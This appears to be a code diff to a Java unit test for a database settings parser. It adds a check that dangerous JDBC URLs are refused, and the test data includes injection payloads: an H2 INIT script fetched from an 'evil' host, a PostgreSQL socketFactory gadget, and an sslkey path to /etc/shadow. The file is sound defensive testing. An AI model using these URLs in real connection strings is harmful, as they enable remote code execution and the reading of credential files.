@@ -9,6 +9,7 @@ import java.util.TreeMap;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class DatabaseSettingsTest {
 
@@ -30,17 +31,17 @@ class DatabaseSettingsTest {
 
     @ParameterizedTest
     @CsvSource(delimiter = '|', textBlock = """
-            url: jdbc:x:y;user: u;poolSize: 4              | database.yaml:1:1: missing key "password"
-            url: jdbc:x:y;user: u;pasword: p               | database.yaml:3:1: unknown key "pasword"; the keys are url, user, password, poolSize
-            url: jdbc:x:y;user: u;password: p;poolSize: 0  | database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "0"
-            url: jdbc:x:y;user: u;password: p;poolSize: '4'| database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "4"
-            url: jdbc:x:y;user: u;password: p;poolSize: 1e9| database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "1e9"
-            url: jdbc:x:y;user: [u, v];password: p         | database.yaml:2:7: user must have a single value
-            url: jdbc:x:y;user: u;password:                | database.yaml:3:10: password must have a single value
-            url: jdbc:x:y;user: u;user: v;password: p      | database.yaml:3:1: duplicate key "user"
-            url: h2:mem:blue;user: u;password: p           | database.yaml:1:6: url must start with jdbc:, but is "h2:mem:blue"
+            url: jdbc:h2:mem:b;user: u;poolSize: 4              | database.yaml:1:1: missing key "password"
+            url: jdbc:h2:mem:b;user: u;pasword: p               | database.yaml:3:1: unknown key "pasword"; the keys are url, user, password, poolSize
+            url: jdbc:h2:mem:b;user: u;password: p;poolSize: 0  | database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "0"
+            url: jdbc:h2:mem:b;user: u;password: p;poolSize: '4'| database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "4"
+            url: jdbc:h2:mem:b;user: u;password: p;poolSize: 1e9| database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "1e9"
+            url: jdbc:h2:mem:b;user: [u, v];password: p         | database.yaml:2:7: user must have a single value
+            url: jdbc:h2:mem:b;user: u;password:                | database.yaml:3:10: password must have a single value
+            url: jdbc:h2:mem:b;user: u;user: v;password: p      | database.yaml:3:1: duplicate key "user"
+            url: h2:mem:blue;user: u;password: p           | database.yaml:1:6: url must be jdbc:h2:mem:NAME or jdbc:postgresql://HOST:PORT/NAME (its only accepted parameter is sslmode)
             just text                                      | database.yaml:1:1: must be a mapping with the keys url, user, password, poolSize
-            url: jdbc:x:y;user: "u                         | database.yaml:2:9: invalid YAML: found unexpected end of stream
+            url: jdbc:h2:mem:b;user: "u                         | database.yaml:2:9: invalid YAML: found unexpected end of stream
             """)
     void anErrorIsOneSentenceWithFileLineAndColumn(String yaml, String sentence) {
         assertThatThrownBy(() -> parse(yaml.replace(";", "\n")))
@@ -58,6 +59,59 @@ class DatabaseSettingsTest {
     void missingFileIsRefused() {
         assertThatThrownBy(() -> DatabaseSettings.from(Snapshot.of(new TreeMap<>())))
                 .hasMessage("the configuration directory contains no database.yaml");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:h2:mem:blue",
+                "jdbc:h2:mem:blue;IFEXISTS=TRUE",
+                "jdbc:postgresql://db:5432/orders",
+                "jdbc:postgresql://db.example.com/orders?sslmode=verify-full",
+                "jdbc:postgresql://[::1]:5432/orders"
+            })
+    void urlNamesADatabase(String url) throws InvalidConfigException {
+        assertThat(parse("{url: '" + url + "', user: u, password: p}").url()).isEqualTo(url);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://evil/x.sql''",
+                "jdbc:h2:mem:x;IFEXISTS=TRUE;INIT=SELECT 1",
+                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
+                "jdbc:h2:mem:x\\;INIT=SELECT 1",
+                "jdbc:h2:mem:",
+                "jdbc:h2:mem:../x",
+                "jdbc:h2:file:/logs/x",
+                "jdbc:h2:/logs/x",
+                "jdbc:h2:~/x",
+                "jdbc:h2:tcp://evil/x",
+                "jdbc:h2:ssl://evil/x",
+                "jdbc:h2:zip:/logs/x.zip!/x",
+                "jdbc:h2:nio:/logs/x",
+                "JDBC:H2:MEM:x;INIT=SELECT 1",
+                "jdbc:postgresql:orders",
+                "jdbc:postgresql:///orders",
+                "jdbc:postgresql:///?service=x",
+                "jdbc:postgresql://db/orders?socketFactory=java.net.URL",
+                "jdbc:postgresql://db/orders?sslmode=require&socketFactory=java.net.URL",
+                "jdbc:postgresql://db/orders?sslmode=require&sslfactory=x",
+                "jdbc:postgresql://db/orders?loggerFile=/logs/app.log&loggerLevel=TRACE",
+                "jdbc:postgresql://db/orders?options=-c%20x",
+                "jdbc:postgresql://db/orders?sslkey=/etc/shadow",
+                "jdbc:postgresql://db/orders;x",
+                "jdbc:postgresql://db,evil/orders",
+                "jdbc:postgresql://db/%6frders",
+                "jdbc:mysql://db/orders",
+                "jdbc:hsqldb:mem:x",
+                "ldap://evil/x"
+            })
+    void urlThatCouldDoMoreThanNameADatabaseIsRefusedAndNotRepeated(String url) {
+        assertThatThrownBy(() -> parse("url: '" + url + "'\nuser: u\npassword: p\n"))
+                .isInstanceOf(InvalidConfigException.class)
+                .hasMessage("database.yaml:1:6: url must be jdbc:h2:mem:NAME or jdbc:postgresql://HOST:PORT/NAME"
+                        + " (its only accepted parameter is sslmode)");
     }
 
     @ParameterizedTest
@@ -83,7 +137,7 @@ class DatabaseSettingsTest {
         "'@hunter2'"
     })
     void noMessageRepeatsThePassword(String password) {
-        assertThatThrownBy(() -> parse("url: jdbc:x:y\nuser: u\npassword: " + password + "\n"))
+        assertThatThrownBy(() -> parse("url: jdbc:h2:mem:b\nuser: u\npassword: " + password + "\n"))
                 .isInstanceOf(InvalidConfigException.class)
                 .hasMessageStartingWith("database.yaml:")
                 .hasMessageNotContaining("hunter2");
@@ -91,7 +145,7 @@ class DatabaseSettingsTest {
 
     @Test
     void passwordIsNotPrinted() throws InvalidConfigException {
-        assertThat(parse("{url: 'jdbc:x:y', user: u, password: hunter2}").toString())
+        assertThat(parse("{url: 'jdbc:h2:mem:b', user: u, password: hunter2}").toString())
                 .contains("****")
                 .doesNotContain("hunter2");
     }
